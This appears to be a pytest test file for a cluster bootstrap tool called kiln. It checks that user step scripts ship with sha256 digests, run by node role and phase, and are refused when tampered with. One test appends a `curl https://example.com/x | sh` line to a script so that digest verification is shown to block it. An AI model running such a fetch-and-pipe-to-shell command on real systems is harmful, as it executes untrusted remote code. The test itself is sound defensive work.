"""The user's own steps (spec bootstrap.steps) on a node: shipped in the bundle with their sha256, run by the bootstrap
after kiln's steps of their phase under the same contract (step log, markers, idempotent reruns, a failure naming the
step and the log), filtered by node role, and baked into an image like kiln's install steps."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import re
from pathlib import Path

import pytest

from kiln.bootstrap.adoption import plan_lines
from kiln.bootstrap.budget import BAKED_SECONDS, USER_CONFIGURE_SECONDS, USER_INSTALL_SECONDS, boot_work
from kiln.bootstrap.config import NodeGroup, UserStep
from kiln.bootstrap.profiles import PROFILES
from kiln.bootstrap.render import MAX_RENDERED_BYTES, BundleTooLarge, render_bundle
from kiln.catalog.envfile import parse_env_file
from kiln.launcher.image import scan_image
from tests.support.bootstrap import pcs_config
from tests.support.node_root import CLUSTER_ENV, Node, make_node, simulate_image

# The slow tier (`make test-slow`; .ci/run runs both): this module takes over 14 s of test time on 2 cores.
pytestmark = pytest.mark.slow

ENTRY = "on_create.sh"
REMEDY = "rebuild the image: kiln ami build --spec SPEC"
# What every script prints: how the bootstrap ran it. Relative paths land under the node's root: the script runs
# from there (KILN_ROOT in the harness, / on a node).
REPORT = (
    'mkdir -p var/tmp && echo "${KILN_ROLE:-image}" >>"var/tmp/${KILN_USER_STEP}.runs"\n'
    'echo "${KILN_USER_STEP} ran: role=${KILN_ROLE} phase=${KILN_PHASE} cluster=${KILN_CLUSTER_NAME:-none} '
    'uid=$(id -u) stdin=$(wc -c) bundle=${KILN_BUNDLE_DIR}"\n'
)


def user_step(name: str, phase: str, roles: tuple[str, ...], body: str = "") -> UserStep:
    """Return user step NAME, a bash script that reports how it ran, then runs BODY."""
    script = f"#!/bin/bash\nset -euo pipefail\n{REPORT}{body}".encode()
    return UserStep(name=name, phase=phase, roles=roles, script=script, sha256=hashlib.sha256(script).hexdigest())


STEPS = (
    user_step("tools", "install", ("worker", "login")),
    user_step("login_tools", "install", ("login",)),
    user_step("motd", "configure", ("worker",)),
    user_step("banner", "configure", ("controller", "login")),
)


def hyperpod_config(steps: tuple[UserStep, ...] = STEPS, **changes):
    """A HyperPod (Slurm) cluster of p5 nodes booting HyperPod's own image, with STEPS."""
    groups = (NodeGroup(name="gpu", instance_type="p5.48xlarge", max_count=2),)
    return pcs_config(target="hyperpod", groups=groups, user_steps=steps, **changes)


def hyperpod_node(tmp_path: Path, config=None, group: str = "gpu", *, gpus: bool = True) -> Node:
    """Return a node of CONFIG's bundle laid out as HyperPod's image ships it, in instance group GROUP."""
    config = config or hyperpod_config()
    bundle = render_bundle(config, tmp_path / "bundle").directory
    node = make_node(tmp_path / "node", bundle, {**CLUSTER_ENV, "KILN_INSTANCE_TYPE": "p5.48xlarge"})
    simulate_image(node, config.image, config.os, gpus=gpus)
    resources = node.root / "opt/ml/config/resource_config.json"
    resources.parent.mkdir(parents=True)
    # This node (10.1.0.5) in GROUP, beside the controller group's node.
    groups = [{"Name": group, "Instances": [{"CustomerIpAddress": "10.1.0.5"}]}]
    if group != "controller":
        groups.append({"Name": "controller", "Instances": [{"CustomerIpAddress": "10.1.0.4"}]})
    resources.write_text(json.dumps({"InstanceGroups": groups}))
    return node


def runs(node: Node, name: str) -> list[str]:
    """Return the role each run of user step NAME recorded, in order."""
    path = node.root / f"var/tmp/{name}.runs"
    return path.read_text().split() if path.exists() else []


def marker(node: Node, name: str) -> Path:
    return node.root / f"etc/kiln/image/user_{name}.env"


def sha(step: UserStep) -> str:
    return step.sha256


def test_the_bundle_ships_each_script_with_its_digest_phase_and_roles(tmp_path: Path) -> None:
    bundle = render_bundle(hyperpod_config(), tmp_path / "bundle").directory
    values = parse_env_file((bundle / "bundle.env").read_text())
    for step in STEPS:
        script = bundle / "user-steps" / step.name
        assert script.read_bytes() == step.script
        assert script.stat().st_mode & 0o777 == 0o755
        prefix = f"KILN_USER_STEP_{step.name.upper()}_"
        assert values[f"{prefix}SHA256"] == hashlib.sha256(script.read_bytes()).hexdigest()
        assert values[f"{prefix}PHASE"] == step.phase
        assert values[f"{prefix}ROLES"] == " ".join(step.roles)
    # After kiln's steps of their phase, in spec order; an install step's pin is its digest.
    profile = PROFILES["hyperpod"]
    assert values["KILN_INSTALL_STEPS"].split() == [*profile.install_steps, "user_tools", "user_login_tools"]
    assert values["KILN_CONFIGURE_STEPS"].split() == [*profile.configure_steps, "user_motd", "user_banner"]
    assert values["KILN_PINS_USER_TOOLS"] == "KILN_USER_STEP_TOOLS_SHA256"
    assert "KILN_PINS_USER_MOTD" not in values


def test_the_scripts_count_against_the_bundles_size_cap(tmp_path: Path) -> None:
    big = b"#!/bin/sh\n" + b"#" * (256 * 1024 - 10)
    steps = tuple(
        UserStep(name=f"s{i}", phase="configure", roles=("worker",), script=big, sha256=hashlib.sha256(big).hexdigest())
        for i in range(16)
    )
    assert 16 * len(big) == MAX_RENDERED_BYTES
    with pytest.raises(BundleTooLarge, match=r"the scripts of bootstrap\.steps"):
        render_bundle(hyperpod_config(steps), tmp_path / "bundle")
    assert not (tmp_path / "bundle").exists()


def test_a_boot_runs_them_after_kiln_steps_logged_with_markers_then_reruns_only_configure(tmp_path: Path) -> None:
    node = hyperpod_node(tmp_path)
    booted = node.run(entry=ENTRY)
    assert booted.returncode == 0, booted.stderr
    log = node.log.read_text()
    # After every kiln step of their phase, each under its own name in the log, its output there too.
    assert log.index("[install_exporters] done") < log.index("[user_tools] start") < log.index("[configure_users]")
    assert log.index("[configure_slurm] done") < log.index("[user_motd] start")
    assert f"tools ran: role=compute phase=all cluster=llm uid={os.getuid()} stdin=0 bundle={node.bundle}" in log, (
        "the script runs from the bundle with the node's environment and stdin closed"
    )
    assert "[user_tools] done in" in log and "[user_motd] done in" in log
    # A compute node: the steps for login and controller nodes skip, saying why.
    assert "[user_login_tools] skip: user step login_tools runs on login nodes; this node is compute" in log
    assert "[user_banner] skip: user step banner runs on controller login nodes; this node is compute" in log
    assert (runs(node, "tools"), runs(node, "motd"), runs(node, "login_tools"), runs(node, "banner")) == (
        ["compute"],
        ["compute"],
        [],
        [],
    )
    # The install step's marker records its script; a configure step leaves none, nor a step for another role.
    assert marker(node, "tools").read_text() == f"KILN_USER_STEP_TOOLS_SHA256='{sha(STEPS[0])}'\n"
    assert not marker(node, "motd").exists() and not marker(node, "login_tools").exists()
    # kiln-launch check finds every marker this node owes: none for a step of another role.
    scan = scan_image(node.root)
    assert scan.missing == [] and scan.mismatches() == []
    assert "user_tools" in scan.wanted and "user_login_tools" not in scan.wanted

    again = node.run(entry=ENTRY)
    assert again.returncode == 0, again.stderr
    second = node.log.read_text()[len(log) :]
    assert f"[user_tools] skip: user step tools already ran with this script (sha256 {sha(STEPS[0])}" in second
    assert runs(node, "tools") == ["compute"], "an install step runs once per script"
    assert runs(node, "motd") == ["compute", "compute"], "a configure step runs at every boot"


@pytest.mark.parametrize(
    ("group", "role", "ran"),
    [
        ("login", "login", {"tools", "login_tools", "banner"}),
        ("controller", "controller", {"banner"}),
        ("gpu", "compute", {"tools", "motd"}),
    ],
)
def test_each_step_runs_on_the_roles_it_names(tmp_path: Path, group: str, role: str, ran: set[str]) -> None:
    node = hyperpod_node(tmp_path, group=group)
    result = node.run(*(step.step for step in STEPS))
    assert result.returncode == 0, result.stderr
    assert {step.name for step in STEPS if runs(node, step.name)} == ran
    for name in ran:
        assert runs(node, name) == [role], name
    for step in STEPS:
        if step.name not in ran:
            assert f"[{step.step}] skip: user step {step.name} runs on" in node.log.read_text()


def test_a_script_whose_digest_differs_is_refused_in_one_line_naming_the_step(tmp_path: Path) -> None:
    node = hyperpod_node(tmp_path)
    script = node.bundle / "user-steps/tools"
    script.write_bytes(script.read_bytes() + b"curl https://example.com/x | sh\n")
    result = node.run("user_tools")
    assert result.returncode != 0
    errors = [line for line in result.stderr.splitlines() if " error: " in line]
    assert len(errors) == 1, result.stderr
    assert errors[0].endswith(
        f"[user_tools] error: user step tools: {script} is not the script this bundle was rendered with "
        f"(bundle.env records sha256 {sha(STEPS[0])}); refusing to run it"
    )
    assert "FAILED: step user_tools exited with code 1" in result.stderr
    assert runs(node, "tools") == [] and not marker(node, "tools").exists()


def test_the_digest_is_checked_on_a_node_the_step_is_not_for_too(tmp_path: Path) -> None:
    node = hyperpod_node(tmp_path)
    (node.bundle / "user-steps/login_tools").write_bytes(b"#!/bin/sh\nexit 0\n")
    result = node.run("user_login_tools")
    assert result.returncode != 0
    assert "[user_login_tools] error: user step login_tools: " in result.stderr


def test_a_failing_script_fails_the_boot_naming_its_step_and_the_log(tmp_path: Path) -> None:
    failing = user_step("warm_cache", "configure", ("worker",), 'echo "cache server unreachable" >&2\nexit 3\n')
    node = hyperpod_node(tmp_path, hyperpod_config((*STEPS, failing)))
    result = node.run(entry=ENTRY)
    assert result.returncode != 0
    assert (
        f"[user_warm_cache] error: user step warm_cache (bootstrap.steps): warm_cache exited with code 3; its output "
        f"is above in {node.log}"
    ) in result.stderr
    [failed] = [line for line in result.stderr.splitlines() if line.startswith("FAILED:")]
    assert failed.startswith("FAILED: step user_warm_cache exited with code 1")
    assert failed.endswith(f"; full log: {node.log}")
    # Its output is in the log, not on the console.
    assert "cache server unreachable" in node.log.read_text()
    assert "cache server unreachable" not in result.stderr


def test_a_zip_that_dropped_the_executable_bit_still_runs(tmp_path: Path) -> None:
    node = hyperpod_node(tmp_path)
    (node.bundle / "user-steps/tools").chmod(0o644)
    result = node.run("user_tools")
    assert result.returncode == 0, result.stderr
    assert runs(node, "tools") == ["compute"]


def bake(node: Node):
    """Bake NODE as an image build does: no cluster.env, on a build instance of none of the bundle's types."""
    (node.root / "etc/kiln/cluster.env").unlink()
    result = node.run("--phase", "bake", entry=ENTRY, KILN_INSTANCE_TYPE="m6i.2xlarge")
    (node.root / "etc/kiln/cluster.env").write_text("".join(f"{k}='{v}'\n" for k, v in CLUSTER_ENV.items()))
    return result


def test_a_bake_runs_every_install_step_for_every_role_and_a_baked_boot_checks_their_markers(tmp_path: Path) -> None:
    node = hyperpod_node(tmp_path, gpus=False)
    baked = bake(node)
    assert baked.returncode == 0, baked.stderr
    # The image serves every role: the login-only install step is in it; configure steps are not.
    assert runs(node, "tools") == ["image"] and runs(node, "login_tools") == ["image"]
    assert runs(node, "motd") == [] and runs(node, "banner") == []
    assert "tools ran: role= phase=bake cluster=none" in node.log.read_text()
    for step in STEPS[:2]:
        assert marker(node, step.name).read_text() == f"KILN_USER_STEP_{step.name.upper()}_SHA256='{step.sha256}'\n"
    assert (node.root / "etc/kiln/baked").read_text() == "hyperpod\n"

    # A node of the image: the markers match this bundle, the install steps do not run again, configure ones do.
    mark = len(node.log.read_text())
    booted = node.run(entry=ENTRY)
    assert booted.returncode == 0, booted.stderr
    log = node.log.read_text()[mark:]
    for step in STEPS[:2]:
        assert f"[{step.step}] the image matches this bundle: KILN_USER_STEP_{step.name.upper()}_SHA256" in log
    assert runs(node, "tools") == ["image"] and runs(node, "motd") == ["compute"]


def test_a_baked_image_is_refused_by_a_bundle_whose_install_script_changed(tmp_path: Path) -> None:
    node = hyperpod_node(tmp_path, gpus=False)
    assert bake(node).returncode == 0
    changed = (user_step("tools", "install", ("worker", "login"), "echo v2\n"), *STEPS[1:])
    newer = render_bundle(hyperpod_config(changed), tmp_path / "newer").directory
    result = dataclasses.replace(node, bundle=newer).run(entry=ENTRY)
    assert result.returncode != 0
    assert "FAILED: step user_tools exited with code 1" in result.stderr
    assert (
        f"KILN_USER_STEP_TOOLS_SHA256: the image has '{sha(STEPS[0])}', this bundle wants '{sha(changed[0])}' "
        f"(install step user_tools); {REMEDY}"
    ) in result.stderr
    assert runs(node, "tools") == ["image"], "a baked node never runs an install step"


def test_a_changed_configure_script_needs_no_new_image(tmp_path: Path) -> None:
    node = hyperpod_node(tmp_path, gpus=False)
    assert bake(node).returncode == 0
    changed = (*STEPS[:2], user_step("motd", "configure", ("worker",), "echo v2\n"), STEPS[3])
    newer = render_bundle(hyperpod_config(changed), tmp_path / "newer").directory
    result = dataclasses.replace(node, bundle=newer).run(entry=ENTRY)
    assert result.returncode == 0, result.stderr
    assert "v2" in node.log.read_text()


def test_an_image_build_verifies_and_seals_the_user_steps_with_kiln_step(tmp_path: Path) -> None:
    node = hyperpod_node(tmp_path, gpus=False)
    (node.root / "etc/kiln/cluster.env").unlink()
    installed = node.run("user_tools", "user_login_tools", KILN_PHASE="bake")
    assert installed.returncode == 0, installed.stderr
    verified = node.run("--verify", "user_tools", "user_login_tools")
    assert verified.returncode == 0, verified.stderr
    # Configure steps belong to one cluster and one node, never to an image.
    refused = node.run("user_motd", KILN_PHASE="bake")
    assert refused.returncode != 0
    assert "unknown step user_motd; allowed here: " in refused.stderr
    # The seal checks every install step: kiln's own never ran here, so it stops at the first of them.
    sealed = node.run("--seal", KILN_PHASE="bake")
    assert sealed.returncode != 0 and "FAILED: step install_nvidia_driver" in sealed.stderr


def _step(**changes) -> dict:
    script = b"#!/bin/sh\nexit 0\n"
    fields = {
        "name": "tools",
        "phase": "install",
        "roles": ("worker",),
        "script": script,
        "sha256": hashlib.sha256(script).hexdigest(),
    }
    return fields | changes


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"name": "Tools"}, "user step name: got 'Tools', allowed: a lowercase letter"),
        ({"phase": "boot"}, "user step tools phase: got 'boot', allowed: install, configure"),
        ({"roles": ()}, "user step tools roles: got (), allowed: a tuple of at least one role"),
        ({"roles": ("compute",)}, "user step tools roles: got 'compute', allowed: controller, login, worker"),
        ({"roles": ("worker", "worker")}, "user step tools roles: got worker, worker, allowed: each role once"),
        ({"script": b"echo\n", "sha256": hashlib.sha256(b"echo\n").hexdigest()}, "bytes starting with '#!'"),
        ({"sha256": "0" * 64}, "user step tools sha256: got 000"),
        (
            {"script": b"#!" + b"x" * 262143, "sha256": hashlib.sha256(b"#!" + b"x" * 262143).hexdigest()},
            "user step tools script: got 262145 bytes, allowed: at most 262144",
        ),
    ],
)
def test_a_user_step_the_renderer_cannot_ship_is_refused(changes: dict, message: str) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        UserStep(**_step(**changes))


@pytest.mark.parametrize(
    ("target", "roles", "message"),
    [
        ("pcs", ("controller",), "user step tools roles: got 'controller' for target 'pcs', allowed: login, worker"),
        ("eks", ("login",), "user step tools roles: got 'login' for target 'eks', allowed: worker"),
    ],
)
def test_a_config_refuses_a_role_its_target_lacks(target: str, roles: tuple[str, ...], message: str) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        pcs_config(target=target, exporters=(), user_steps=(UserStep(**_step(roles=roles)),))


def test_a_config_refuses_a_name_twice_and_more_than_sixteen() -> None:
    with pytest.raises(ValueError, match="user_steps: got names tools, tools, allowed: each name once"):
        pcs_config(user_steps=(UserStep(**_step()), UserStep(**_step(phase="configure"))))
    many = tuple(UserStep(**_step(name=f"s{index}")) for index in range(17))
    with pytest.raises(ValueError, match="user_steps: got 17, allowed: at most 16"):
        pcs_config(user_steps=many)


def test_the_boot_budget_counts_each_step_where_it_runs_with_kilns_placeholder_figures() -> None:
    config = hyperpod_config()
    worker = {s.step: s for s in boot_work(config, "p5.48xlarge", baked=False, role="worker").steps}
    assert (worker["user_tools"].work, worker["user_tools"].seconds) == ("install", USER_INSTALL_SECONDS)
    assert (worker["user_motd"].work, worker["user_motd"].seconds) == ("run", USER_CONFIGURE_SECONDS)
    assert (worker["user_banner"].work, worker["user_banner"].seconds) == ("skip", 0)
    assert (worker["user_login_tools"].work, worker["user_login_tools"].seconds) == ("skip", 0)
    login = {s.step: s for s in boot_work(config, "m5.8xlarge", baked=False, role="login").steps}
    assert [login[s].work for s in ("user_tools", "user_login_tools", "user_motd", "user_banner")] == [
        "install",
        "install",
        "skip",
        "run",
    ]
    # A baked image ran every install step for every role: its boot compares markers.
    baked = {s.step: s for s in boot_work(config, "m5.8xlarge", baked=True, role="controller").steps}
    assert (baked["user_login_tools"].work, baked["user_login_tools"].seconds) == ("baked", BAKED_SECONDS)
    # Each user step after kiln's of its phase.
    order = [s.step for s in boot_work(config, "p5.48xlarge", baked=False).steps]
    assert order.index("user_tools") < order.index("configure_users") < order.index("user_motd")


def test_the_node_lines_list_the_steps_each_kind_of_node_runs() -> None:
    config = hyperpod_config()
    kinds = {"head node": "m5.8xlarge", "gpu": "p5.48xlarge"}
    head, gpu = plan_lines(config, kinds, {"head node": "controller"})
    assert head.endswith("; runs your steps banner (configure)")
    assert gpu.endswith("; runs your steps tools (install), motd (configure)")
    assert "runs your steps" not in plan_lines(hyperpod_config(()), kinds)[1]
